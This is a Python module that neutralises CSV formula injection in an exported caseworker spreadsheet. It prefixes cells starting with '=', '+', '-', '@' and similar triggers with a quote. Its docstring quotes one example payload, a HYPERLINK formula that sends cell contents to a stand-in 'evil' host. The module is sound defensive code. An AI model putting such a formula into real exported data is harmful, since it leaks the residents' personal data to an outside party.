"""Keep exported cells inert in spreadsheets (CSV formula injection, CWE-1236).

A resident types their own answers, so a "name" such as `=HYPERLINK("http://evil/?"&A1)`
would run as a formula when a caseworker opens the CSV in Excel or LibreOffice. OWASP's
advice: prefix any cell that starts with a formula trigger with a single quote, which
spreadsheets show as text and never evaluate.
"""

from __future__ import annotations

# "=", "+", "-", "@" start a formula; a leading tab or carriage return can hide one
# (Excel trims them and evaluates what follows). Full-width variants are normalised to
# ASCII by some spreadsheet imports, so they are neutralised too.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise(cell) -> str:
    """`cell` as text that no spreadsheet will evaluate."""
    text = "" if cell is None else str(cell)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def neutralise_row(row) -> list[str]:
    return [neutralise(cell) for cell in row]


_TRIGGER_CHARACTERS = frozenset(FORMULA_TRIGGERS)  # every trigger is one character


def neutralise_text_row(row: list[str]) -> list[str]:
    """`neutralise_row` for a row whose cells are all text already (what the CSV export
    builds): a first-character check per cell instead of a call per cell."""
    triggers = _TRIGGER_CHARACTERS
    return ["'" + cell if cell and cell[0] in triggers else cell for cell in row]
